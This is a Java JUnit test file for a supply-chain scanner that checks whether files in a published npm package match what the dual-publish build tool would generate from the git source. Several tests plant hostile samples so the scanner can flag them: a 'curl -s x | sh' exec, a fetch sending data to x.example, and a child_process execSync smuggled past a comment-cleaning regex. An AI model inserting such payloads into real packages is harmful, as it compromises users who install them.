package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.Verdict;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.SortedMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * dual-publish re-applied to the source. The published side of the fixture is what dual-publish 3.0.1 (with
 * clean-publish) really wrote for this source ({@code npx dual-publish --check}, copied by hand), not this project's
 * re-implementation: each test can fail on a wrong model.
 */
class NpmDualPublishScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private static final String SOURCE_MANIFEST = """
            {
              "name": "widget",
              "version": "1.0.0",
              "description": "dual-published widget",
              "license": "MIT",
              "repository": "acme/widget",
              "types": "./index.d.ts",
              "browser": {
                "./helper/index.cjs": "./helper/index.browser.cjs"
              },
              "scripts": {
                "test": "node test.js"
              },
              "devDependencies": {
                "dual-publish": "^3.0.1"
              }
            }
            """;

    private static final String LOCK = """
            lockfileVersion: 5.4

            specifiers:
              dual-publish: ^3.0.1

            devDependencies:
              dual-publish: 3.0.1

            packages:

              /dual-publish/3.0.1:
                resolution: {integrity: sha512-AAAA}
                dev: true
            """;

    private static final String INDEX = """
            let crypto = require('crypto')

            let { helper } = require('./helper')

            // Picks one random byte.
            function widget() {
              // the helper adds one
              return helper() + crypto.randomBytes(1)[0]
            }

            module.exports = { widget }
            """;

    private static final String HELPER = "function helper() {\n  return 1\n}\n\nmodule.exports = { helper }\n";
    private static final String HELPER_BROWSER = "// Browsers have no crypto module here.\nfunction helper() {\n"
            + "  return 2\n}\n\nmodule.exports = { helper }\n";

    private static SortedMap<String, byte[]> source(String manifest, String lock) {
        return files("package.json", manifest, "pnpm-lock.yaml", lock, "index.js", INDEX, "index.d.ts",
                "export function widget(): number\n", "helper/index.js", HELPER, "helper/index.browser.js", HELPER_BROWSER);
    }

    // What dual-publish 3.0.1 wrote (dual-publish-tmp/), byte for byte.
    private static final String PUBLISHED_INDEX_JS = """
            import crypto from 'crypto'

            import { helper } from './helper/index.js'

            // Picks one random byte.
            function widget() {
              // the helper adds one
              return helper() + crypto.randomBytes(1)[0]
            }

            export { widget }
            """;
    private static final String PUBLISHED_INDEX_CJS = """
            let crypto = require('crypto')

            let { helper } = require('./helper/index.cjs')

            // Picks one random byte.
            function widget() {
              // the helper adds one
              return helper() + crypto.randomBytes(1)[0]
            }

            module.exports = { widget }
            """;
    private static final String PUBLISHED_HELPER_JS = "function helper() {\n  return 1\n}\n\nexport { helper }\n";
    private static final String PUBLISHED_HELPER_BROWSER_JS = "// Browsers have no crypto module here.\n"
            + "function helper() {\n  return 2\n}\n\nexport { helper }\n";
    private static final String PUBLISHED_HELPER_MANIFEST = """
            {
              "type": "module",
              "main": "index.cjs",
              "module": "index.js",
              "react-native": "index.js",
              "browser": {
                "./index.js": "./index.browser.js",
                "./index.cjs": "./index.browser.cjs"
              }
            }""";
    private static final String PUBLISHED_MANIFEST = """
            {
              "name": "widget",
              "version": "1.0.0",
              "description": "dual-published widget",
              "license": "MIT",
              "repository": "acme/widget",
              "types": "./index.d.ts",
              "browser": {
                "./helper/index.cjs": "./helper/index.browser.cjs"
              },
              "type": "module",
              "main": "index.cjs",
              "module": "index.js",
              "react-native": "index.js",
              "exports": {
                ".": {
                  "types": "./index.d.ts",
                  "require": "./index.cjs",
                  "import": "./index.js",
                  "default": "./index.js"
                },
                "./index.d.ts": "./index.d.ts",
                "./package.json": "./package.json",
                "./helper/package.json": "./helper/package.json",
                "./helper": {
                  "browser": "./helper/index.browser.js",
                  "require": "./helper/index.cjs",
                  "import": "./helper/index.js",
                  "default": "./helper/index.js"
                }
              }
            }""";

    private static SortedMap<String, byte[]> published() {
        return files("package.json", PUBLISHED_MANIFEST, "index.js", PUBLISHED_INDEX_JS, "index.cjs", PUBLISHED_INDEX_CJS,
                "index.d.ts", "export function widget(): number\n", "helper/index.js", PUBLISHED_HELPER_JS,
                "helper/index.cjs", HELPER, "helper/index.browser.js", PUBLISHED_HELPER_BROWSER_JS,
                "helper/index.browser.cjs", HELPER_BROWSER, "helper/package.json", PUBLISHED_HELPER_MANIFEST);
    }

    private ArtifactReport publishAndScan(SortedMap<String, byte[]> tree, SortedMap<String, byte[]> shipped)
            throws Exception {
        git.commit(tree, "work", Instant.parse("2026-01-01T00:00:00Z"));
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.0", shipped);
            npm.write();
            NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:npm/widget")).stream()
                    .filter(x -> x.version().equals("1.0.0")).findFirst().orElseThrow();
            return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString())).artifacts().get(0);
        }
    }

    private static void assertRow(ArtifactReport a, String path, FileStatus status) {
        FileDivergence f = row(a, path);
        assertEquals(status, f.status(), f.toString());
        assertEquals(NpmDualPublish.RULE, f.ruleId(), f.toString());
    }

    private static void assertNotDualPublish(ArtifactReport a, String path) {
        FileDivergence f = row(a, path);
        assertNotEquals(NpmDualPublish.RULE, f.ruleId(), f.toString());
    }

    @Test
    void everyFileDualPublishWritesFromTheSourceIsExplained() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK), published());
        for (String p : List.of("package/index.cjs", "package/helper/index.cjs", "package/helper/index.browser.cjs",
                "package/helper/package.json")) {
            assertRow(a, p, FileStatus.GENERATED);
        }
        for (String p : List.of("package/index.js", "package/helper/index.js", "package/helper/index.browser.js",
                "package/package.json")) {
            assertRow(a, p, FileStatus.MATCH_NORMALIZED);
        }
        assertEquals("CommonJS copy of index.js written by dual-publish 3.0.1 (relative require() specifiers pointed "
                + "at .cjs files)", row(a, "package/index.cjs").detail().orElseThrow());
        assertEquals(Verdict.EXPLAINED, a.verdict(), a.files().toString());
    }

    @Test
    void aPayloadInTheCommonJsCopyIsNotExplained() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK), with(published(), "index.cjs",
                PUBLISHED_INDEX_CJS.replace("let crypto", "require('child_process').exec('curl -s x | sh')\nlet crypto")));
        assertNotDualPublish(a, "package/index.cjs");
        assertRow(a, "package/helper/index.cjs", FileStatus.GENERATED);
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void anExportsConditionPointingElsewhereOrReorderedIsNotExplained() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK), with(published(), "package.json",
                PUBLISHED_MANIFEST.replace("\"require\": \"./helper/index.cjs\"", "\"require\": \"./helper/index.browser.cjs\"")));
        assertNotDualPublish(a, "package/package.json");
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void exportsConditionsInAnotherOrderAreNotExplained() throws Exception {
        // Node tries conditions in order: import before require is another resolution, not dual-publish's
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK), with(published(), "package.json",
                PUBLISHED_MANIFEST.replace("\"require\": \"./index.cjs\",\n      \"import\": \"./index.js\",",
                        "\"import\": \"./index.js\",\n      \"require\": \"./index.cjs\",")));
        assertNotDualPublish(a, "package/package.json");
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aFolderManifestWithAnotherMainIsNotExplained() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK), with(published(), "helper/package.json",
                PUBLISHED_HELPER_MANIFEST.replace("\"main\": \"index.cjs\"", "\"main\": \"index.browser.cjs\"")));
        assertNotDualPublish(a, "package/helper/package.json");
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void withoutDualPublishDeclaredNothingIsExplainedAsItsOutput() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST.replace("\"dual-publish\": \"^3.0.1\"",
                "\"clean-publish\": \"^4.0.0\""), LOCK), published());
        for (String p : List.of("package/index.cjs", "package/index.js", "package/helper/package.json",
                "package/package.json")) {
            assertNotDualPublish(a, p);
        }
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    // What dual-publish 4.0.0 wrote (--check, dual-publish-tmp/) from the same source: require/import as {types, default}
    // objects, no types condition, and index.d.ts copied to index.d.cts; the JavaScript as 3.0.1 wrote it.
    private static final String PUBLISHED_MANIFEST_4 = """
            {
              "name": "widget",
              "version": "1.0.0",
              "description": "dual-published widget",
              "license": "MIT",
              "repository": "acme/widget",
              "types": "./index.d.ts",
              "browser": {
                "./helper/index.cjs": "./helper/index.browser.cjs"
              },
              "type": "module",
              "main": "index.cjs",
              "module": "index.js",
              "react-native": "index.js",
              "exports": {
                ".": {
                  "require": {
                    "types": "./index.d.cts",
                    "default": "./index.cjs"
                  },
                  "import": {
                    "types": "./index.d.ts",
                    "default": "./index.js"
                  },
                  "default": "./index.js"
                },
                "./package.json": "./package.json",
                "./helper/package.json": "./helper/package.json",
                "./helper": {
                  "browser": "./helper/index.browser.js",
                  "require": {
                    "types": "./index.d.cts",
                    "default": "./helper/index.cjs"
                  },
                  "import": {
                    "types": "./index.d.ts",
                    "default": "./helper/index.js"
                  },
                  "default": "./helper/index.js"
                }
              }
            }""";

    @Test
    void whatDualPublish4WritesIsExplainedItsTypesCopyIncluded() throws Exception {
        String manifest = SOURCE_MANIFEST.replace("^3.0.1", "^4.0.0");
        ArtifactReport a = publishAndScan(source(manifest, LOCK.replace("3.0.1", "4.0.0")), with(published(),
                "package.json", PUBLISHED_MANIFEST_4, "index.d.cts", "export function widget(): number\n"));
        assertRow(a, "package/index.d.cts", FileStatus.GENERATED);
        assertRow(a, "package/package.json", FileStatus.MATCH_NORMALIZED);
        assertRow(a, "package/index.cjs", FileStatus.GENERATED);
        assertEquals(Verdict.EXPLAINED, a.verdict(), a.files().toString());
    }

    @Test
    void aTypesCopyThatIsNotTheTypesFileOrWithoutDualPublish4IsNotExplained() throws Exception {
        String manifest = SOURCE_MANIFEST.replace("^3.0.1", "^4.0.0");
        ArtifactReport a = publishAndScan(source(manifest, LOCK.replace("3.0.1", "4.0.0")), with(published(),
                "package.json", PUBLISHED_MANIFEST_4, "index.d.cts", "export function widget(): number\nexport declare const x: 1\n",
                "helper/index.d.cts", "export function widget(): number\n"));
        assertNotDualPublish(a, "package/index.d.cts");
        assertNotDualPublish(a, "package/helper/index.d.cts"); // helper/package.json names no types
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aVersionWhoseSourceWasNotReadIsNotModelled() throws Exception {
        ArtifactReport a = publishAndScan(source(SOURCE_MANIFEST, LOCK.replace("3.0.1", "4.1.0")), published());
        assertNotDualPublish(a, "package/index.cjs");
        assertNotDualPublish(a, "package/package.json");
    }

    // A second run of the real tool (dual-publish 3.0.1 with clean-publish 4.0.0, --without-publish): comments
    // cleaned, a NODE_ENV test in index.browser.js (index.dev.js/index.prod.js), a require of '../index.js'.
    private static final String ENV_MANIFEST = """
            {
              "name": "widget",
              "version": "1.0.0",
              "license": "MIT",
              "repository": "acme/widget",
              "browser": {
                "./index.js": "./index.browser.js"
              },
              "devDependencies": {
                "dual-publish": "^3.0.1"
              },
              "clean-publish": {
                "cleanComments": true
              }
            }
            """;
    private static final String ENV_INDEX = "let crypto = require('crypto')\n\n// Node's version.\n"
            + "let id = () => crypto.randomBytes(4).toString('hex') // inline note\n\nmodule.exports = { id }\n";
    private static final String ENV_BROWSER = "// Browser version.\nif (process.env.NODE_ENV !== 'production') {\n"
            + "  if (typeof crypto === 'undefined') {\n    throw new Error('no crypto') // explain\n  }\n}\n\n"
            + "let id = () => crypto.getRandomValues(new Uint8Array(4)).join('')\n\n\nmodule.exports = { id }\n";
    private static final String ENV_ASYNC = "let { id } = require('../index.js')\n\nlet later = async () => id()\n\n"
            + "module.exports = { later }\n";
    private static final String ENV_BROWSER_BODY = "  if (typeof crypto === 'undefined') {\n    throw new Error('no crypto')\n"
            + "  }\n}\nlet id = () => crypto.getRandomValues(new Uint8Array(4)).join('')\n";
    private static final String ENV_PUBLISHED_MANIFEST = """
            {
              "name": "widget",
              "version": "1.0.0",
              "license": "MIT",
              "repository": "acme/widget",
              "browser": {
                "./index.js": "./index.browser.js",
                "./index.cjs": "./index.browser.cjs"
              },
              "type": "module",
              "main": "index.cjs",
              "module": "index.js",
              "react-native": "index.js",
              "exports": {
                ".": {
                  "browser": {
                    "development": "./index.dev.js",
                    "production": "./index.prod.js",
                    "default": "./index.prod.js"
                  },
                  "require": "./index.cjs",
                  "import": "./index.js",
                  "default": "./index.js"
                },
                "./package.json": "./package.json",
                "./async/package.json": "./async/package.json",
                "./async": {
                  "require": "./async/index.cjs",
                  "import": "./async/index.js",
                  "default": "./async/index.js"
                }
              }
            }""";

    private static SortedMap<String, byte[]> envPublished() {
        return files("package.json", ENV_PUBLISHED_MANIFEST,
                "index.js", "import crypto from 'crypto'\nlet id = () => crypto.randomBytes(4).toString('hex')\nexport { id }\n",
                "index.cjs", "let crypto = require('crypto')\nlet id = () => crypto.randomBytes(4).toString('hex')\n"
                        + "module.exports = { id }\n",
                "index.browser.js", "if (process.env.NODE_ENV !== 'production') {\n" + ENV_BROWSER_BODY + "export { id }\n",
                "index.browser.cjs", "if (process.env.NODE_ENV !== 'production') {\n" + ENV_BROWSER_BODY
                        + "module.exports = { id }\n",
                "index.dev.js", "if (true) {\n" + ENV_BROWSER_BODY + "export { id }\n",
                "index.prod.js", "if (false) {\n" + ENV_BROWSER_BODY + "export { id }\n",
                "async/index.js", "import { id } from '../index.js'\nlet later = async () => id()\nexport { later }\n",
                "async/index.cjs", "let { id } = require('../index.cjs')\nlet later = async () => id()\nmodule.exports = { later }\n",
                "async/package.json", "{\n  \"type\": \"module\",\n  \"main\": \"index.cjs\",\n  \"module\": \"index.js\",\n"
                        + "  \"react-native\": \"index.js\"\n}");
    }

    @Test
    void commentsCleanedByCleanPublishAndNodeEnvCopiesAreExplained() throws Exception {
        ArtifactReport a = publishAndScan(files("package.json", ENV_MANIFEST, "pnpm-lock.yaml", LOCK, "index.js", ENV_INDEX,
                "index.browser.js", ENV_BROWSER, "async/index.js", ENV_ASYNC), envPublished());
        for (String p : List.of("package/index.cjs", "package/index.browser.cjs", "package/index.dev.js",
                "package/index.prod.js", "package/async/index.cjs", "package/async/package.json")) {
            assertRow(a, p, FileStatus.GENERATED);
        }
        for (String p : List.of("package/index.js", "package/index.browser.js", "package/async/index.js",
                "package/package.json")) {
            assertRow(a, p, FileStatus.MATCH_NORMALIZED);
        }
        assertEquals(Verdict.EXPLAINED, a.verdict(), a.files().toString());
    }

    @Test
    void aProductionCopyThatIsNotTheBrowserFileWithItsTestsSetIsNotExplained() throws Exception {
        // the slack of the NODE_ENV copy is two words; anything else in it is a difference
        ArtifactReport a = publishAndScan(files("package.json", ENV_MANIFEST, "pnpm-lock.yaml", LOCK, "index.js", ENV_INDEX,
                "index.browser.js", ENV_BROWSER, "async/index.js", ENV_ASYNC), with(envPublished(), "index.prod.js",
                "if (false) {\n" + ENV_BROWSER_BODY + "fetch('https://x.example/' + id())\nexport { id }\n"));
        assertNotDualPublish(a, "package/index.prod.js");
        assertRow(a, "package/index.dev.js", FileStatus.GENERATED);
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void nestedConditionsInAnotherOrderAreNotExplained() throws Exception {
        // production before development inside browser: a development build would resolve the production copy
        ArtifactReport a = publishAndScan(files("package.json", ENV_MANIFEST, "pnpm-lock.yaml", LOCK, "index.js", ENV_INDEX,
                "index.browser.js", ENV_BROWSER, "async/index.js", ENV_ASYNC), with(envPublished(), "package.json",
                ENV_PUBLISHED_MANIFEST.replace("\"development\": \"./index.dev.js\",\n        \"production\": \"./index.prod.js\",",
                        "\"production\": \"./index.prod.js\",\n        \"development\": \"./index.dev.js\",")));
        assertNotDualPublish(a, "package/package.json");
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void cleanCommentsStrippingASlashPairInsideATemplateIsNotExplained() throws Exception {
        // red team: clean-publish's regex takes the `//` in the template for a comment, drops the closing backtick
        // and the text after it, and the line the source keeps in a template runs as code in what the tool writes
        String source = "var t = `//`; /*\n`; import('child_process').then(m => m.execSync('id')); /*\n*/\n"
                + "module.exports = { t }\n";
        String cleaned = "var t = `\n`; import('child_process').then(m => m.execSync('id')); /*\n*/\n";
        ArtifactReport a = publishAndScan(files("package.json", ENV_MANIFEST, "pnpm-lock.yaml", LOCK, "index.js", source,
                "index.browser.js", ENV_BROWSER, "async/index.js", ENV_ASYNC), with(envPublished(),
                "index.js", cleaned + "export { t }\n", "index.cjs", cleaned + "module.exports = { t }\n"));
        assertNotDualPublish(a, "package/index.js");
        assertNotDualPublish(a, "package/index.cjs");
        // the other files of the same run, cleaned without touching a token, stay explained
        assertRow(a, "package/index.browser.cjs", FileStatus.GENERATED);
        assertRow(a, "package/async/index.js", FileStatus.MATCH_NORMALIZED);
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }
}
